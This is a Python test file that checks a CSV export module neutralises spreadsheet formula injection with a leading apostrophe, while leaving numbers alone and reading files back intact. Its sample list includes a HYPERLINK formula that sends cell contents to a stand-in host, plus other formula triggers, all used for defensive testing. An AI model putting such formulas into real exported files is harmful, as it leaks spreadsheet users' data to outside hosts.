"""CSV cells a spreadsheet would run as formulas are neutralised (OWASP: a leading apostrophe),
numbers are not, and ReForm reads its own files back unchanged."""

from __future__ import annotations

import csv

import pandas as pd

from reform_core import safe_csv

HOSTILE = [
    '=HYPERLINK("http://x.test/?"&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "'quoted",
    "plain",
    "a=b",
    "",
    None,
]


def test_every_trigger_is_prefixed_and_numbers_are_not(tmp_path):
    frame = pd.DataFrame(
        {"note": HOSTILE, "score": [-1.5, 2.0, -3.0, 0.0, 1.0, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0], "=header": range(11)}
    )
    path = tmp_path / "x.csv"
    safe_csv.write_csv(frame, path)
    with path.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert len(rows) == 1 + len(HOSTILE), "a carriage return inside a cell never splits its row"
    assert rows[0] == ["note", "score", "'=header"]
    notes = [r[0] for r in rows[1:]]
    for raw, cell in zip(HOSTILE, notes):
        if raw and raw[0] in "=+-@\t\r'":
            assert cell == "'" + raw
        else:
            assert cell == (raw or "")
    assert [float(r[1]) for r in rows[1:]][:3] == [-1.5, 2.0, -3.0], "numeric columns are left alone"
    back = safe_csv.read_csv(path, dtype={"note": str})
    assert back["note"].fillna("").tolist() == [h or "" for h in HOSTILE]
    assert back.columns.tolist() == ["note", "score", "=header"]


def test_csv_text_for_downloads():
    text = safe_csv.csv_text(pd.DataFrame({"name": ["=1+1", "ok"]}))
    assert text.splitlines() == ["name", "'=1+1", "ok"]
